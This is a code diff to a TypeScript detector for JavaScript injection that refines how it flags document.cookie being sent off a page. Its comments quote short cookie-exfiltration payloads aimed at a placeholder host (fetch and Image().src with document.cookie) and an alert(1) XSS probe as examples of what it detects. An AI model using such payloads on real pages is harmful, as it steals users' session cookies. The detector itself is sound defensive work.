@@ -9,7 +9,7 @@
  */
 import { lexJs, type Token } from "./lexer.ts";
 import { fold, matchBrackets } from "./constant.ts";
-import { ASSIGN_SINKS, DIALOG_CALLS, DOCUMENT_SINKS, EVAL_CALLS, GLOBAL_OBJECTS, INDIRECT_CALLS, SENDING_NAMES, SENSITIVE_MEMBERS, TIMER_CALLS, URL_SOURCES, WRITE_CALLS } from "./names.ts";
+import { ASSIGN_SINKS, DIALOG_CALLS, DOCUMENT_SINKS, EVAL_CALLS, GLOBAL_OBJECTS, INDIRECT_CALLS, SENDING_CALLS, SENDING_TARGETS, SENSITIVE_MEMBERS, TIMER_CALLS, URL_SOURCES, WRITE_CALLS } from "./names.ts";
 import { jsfuckRuns } from "./jsfuck.ts";
 import { candidatePositions } from "./candidates.ts";
 
@@ -141,20 +141,34 @@ function judgeCall(c: Callee, tokens: Token[], match: Int32Array, at: number, al
   return null;
 }
 
-/** Tokens read on each side of a cookie read for where it goes (a statement's worth). */
-const EXFIL_REACH = 12;
+/** Tokens read back from a cookie read for the call or assignment it sits in (a statement's worth). */
+const EXFIL_REACH = 32;
 
-/** A string that reads as (part of) an address: a cookie joined to one is sent there. */
-const isAddressLiteral = (t: Token) => (t.type === "string" || t.type === "template") && /[/?]/.test(t.value ?? "?");
+/** An address: a string that starts a path (`/log?c=`) or holds `//` (`//e.example/?c=`, `https://...`). */
+const isAddress = (text: string) => text.startsWith("/") || text.includes("//");
+const isAddressLiteral = (t: Token | undefined) => t !== undefined && (t.type === "string" || t.type === "template") && t.value !== null && isAddress(t.value);
 
 /**
- * Does the read of `document.cookie` at tokens[first..last] go off the page: joined to an address,
- * or in the same statement as a request, a navigation or a form (`fetch('//e/?'+document.cookie)`,
- * `new Image().src='//e/?c='+document.cookie`)? A plain read (`var c = document.cookie`) does not.
+ * Does the read of `document.cookie` at tokens[first..last] go off the page? Joined to an address
+ * (`'//e/?c='+document.cookie`), or inside the arguments of a call that sends (`fetch(...)`,
+ * `navigator.sendBeacon(...)`, `new Image(...)`) or on the right of an assignment that navigates or
+ * loads (`img.src = u + document.cookie`), in the same statement. A plain read, or one a condition
+ * tests (`if (!document.cookie) location.href = '/login'`), does not.
  */
-function sendsCookie(tokens: Token[], first: number, last: number): boolean {
-  for (let k = first - 1; k >= 0 && k >= first - EXFIL_REACH && !isPunct(tokens[k], ";"); k--) if (isAddressLiteral(tokens[k]!) || SENDING_NAMES.has(tokens[k]!.value ?? "")) return true;
-  for (let k = last + 1; k < tokens.length && k <= last + EXFIL_REACH && !isPunct(tokens[k], ";"); k++) if (isAddressLiteral(tokens[k]!)) return true;
+function sendsCookie(tokens: Token[], match: Int32Array, first: number, last: number): boolean {
+  if ((isPunct(tokens[first - 1], "+") && isAddressLiteral(tokens[first - 2])) || (isPunct(tokens[last + 1], "+") && isAddressLiteral(tokens[last + 2]))) return true;
+  for (let k = first - 1; k >= 0 && k >= first - EXFIL_REACH; k--) {
+    const t = tokens[k]!;
+    if (isPunct(t, ";")) return false;
+    // A closed group before the read is stepped over whole.
+    if ((isPunct(t, ")") || isPunct(t, "]") || isPunct(t, "}")) && match[k]! >= 0 && match[k]! < k) {
+      k = match[k]!;
+      continue;
+    }
+    // An open bracket the read sits in: a call's arguments when a name is before it.
+    if (isPunct(t, "(") && SENDING_CALLS.has(tokens[k - 1]?.value ?? "")) return true;
+    if (isPunct(t, "=") && SENDING_TARGETS.has(tokens[k - 1]?.value ?? "")) return true;
+  }
   return false;
 }
 
@@ -169,7 +183,7 @@ function judgeMember(tokens: Token[], match: Int32Array, i: number, inAddress: b
   if (t.type === "name") {
     const prev2 = isPunct(tokens[i - 1], ".") ? tokens[i - 2] : undefined;
     if (prev2?.value === "document" && DOCUMENT_SINKS.has(t.value ?? "")) {
-      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, i - 2, i))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
+      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, match, i - 2, i))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
       return { construct: "document-sink", kind: "sink", base: assigned ? 0.55 : 0.45 };
     }
     if (assigned && ASSIGN_SINKS.has(t.value ?? "") && (prev2 !== undefined || t.value === "location")) return { construct: "assign-sink", kind: "sink", base: 0.4 };
@@ -207,37 +221,66 @@ function noteAlias(tokens: Token[], i: number, aliases: Map<string, string>): vo
   if (isPunct(tokens[i - 1], "=") && target?.type === "name" && !isPunct(tokens[i - 3], ".")) aliases.set(target.value ?? "", tokens[i]!.value ?? "");
 }
 
+/** The index just past the string that opens at i (its quote), or `end` when it does not close. */
+function skipString(text: string, i: number, end: number): number {
+  const quote = text.charCodeAt(i);
+  for (let k = i + 1; k < end; k++) {
+    const c = text.charCodeAt(k);
+    if (c === 92 /* \ */) k++;
+    else if (c === quote) return k + 1;
+  }
+  return end;
+}
+
+/** Where the substitution whose code starts at i ends (its `}`), strings inside read over; `last` when it does not close. */
+function substitutionEnd(text: string, i: number, last: number): number {
+  let depth = 1;
+  for (let j = i; j < last; j++) {
+    const c = text.charCodeAt(j);
+    if (c === 39 || c === 34) j = skipString(text, j, last) - 1;
+    else if (c === 123) depth++;
+    else if (c === 125 && --depth === 0) return j;
+  }
+  return last;
+}
+
 /**
- * A template literal's substitutions (`${...}`) are code: `\`${alert(1)}\``. The lexer ends a template
- * at its first unescaped backtick, so a substitution holds none and this recursion reads each
- * character once more at most.
+ * A template literal's substitutions (`${...}`) are code: `\`${alert(1)}\``. Each is read once, at one
+ * level: a template that a substitution's code opens is not read again (an escaped backtick there
+ * opens one that runs to the value's end, and reading each such level again would be quadratic).
  */
 function scanSubstitutions(text: string, template: Token, context: JsContext, brokeOut: boolean, out: JsHit[]): void {
   const last = template.end - 1;
-  // Has the template's own text so far read as an address (a `/` or `?`)?
-  let address = false;
+  // Does the template's own text before the substitution read as an address (`/...` or `//`)?
+  let address = text.charCodeAt(template.start + 1) === 47;
   for (let k = template.start + 1; k < last; k++) {
     const c = text.charCodeAt(k);
     if (c === 92 /* \ */) k++;
-    else if (c === 47 || c === 63) address = true;
+    else if (c === 47 && text.charCodeAt(k - 1) === 47) address = true;
     else if (c === 36 && text.charCodeAt(k + 1) === 123) {
-      let depth = 1;
-      let j = k + 2;
-      for (; j < last && depth > 0; j++) depth += text.charCodeAt(j) === 123 ? 1 : text.charCodeAt(j) === 125 ? -1 : 0;
-      const close = depth === 0 ? j - 1 : j;
-      scanTokens(text, k + 2, close, context, brokeOut, out, false, address);
+      const close = substitutionEnd(text, k + 2, last);
+      scanTokens(text, k + 2, close, context, brokeOut, out, { inAddress: address, inSubstitution: true });
       k = close;
     }
   }
 }
 
-function scanTokens(text: string, start: number, end: number, context: JsContext, brokeOut: boolean, out: JsHit[], atValueStart = false, inAddress = false): void {
+/** How a range is read: at the value's start (a statement breakout may open it), or as a template's substitution. */
+interface ScanPlace {
+  atValueStart?: boolean;
+  /** The substitution's template reads as an address before it. */
+  inAddress?: boolean;
+  inSubstitution?: boolean;
+}
+
+function scanTokens(text: string, start: number, end: number, context: JsContext, brokeOut: boolean, out: JsHit[], place: ScanPlace = {}): void {
+  const { atValueStart = false, inAddress = false, inSubstitution = false } = place;
   const tokens = lexJs(text, start, end);
   const match = matchBrackets(tokens);
   const aliases = new Map<string, string>();
   for (let i = 0; i < tokens.length; i++) {
     const t = tokens[i]!;
-    if (t.type === "template" && t.value === null) scanSubstitutions(text, t, context, brokeOut, out);
+    if (t.type === "template" && t.value === null && !inSubstitution) scanSubstitutions(text, t, context, brokeOut, out);
     let judged: Judged | null = null;
     let first = i;
     let last = i;
@@ -335,7 +378,7 @@ export function checkJs(text: string, start: number, end: number, context: JsCon
     // A bare value is read only around the places a construct may start (js/candidates.ts).
     const candidates = candidatePositions(text, start, end);
     if (candidates.length) {
-      for (const [lo, hi] of candidateRegions(text, candidates, start, end)) scanTokens(text, lo, hi, context, false, out, lo === start);
+      for (const [lo, hi] of candidateRegions(text, candidates, start, end)) scanTokens(text, lo, hi, context, false, out, { atValueStart: lo === start });
       for (const at of breakoutPoints(text, start, end)) {
         for (const [lo, hi] of candidateRegions(text, candidates, at, end)) scanTokens(text, lo, hi, context, true, out);
       }
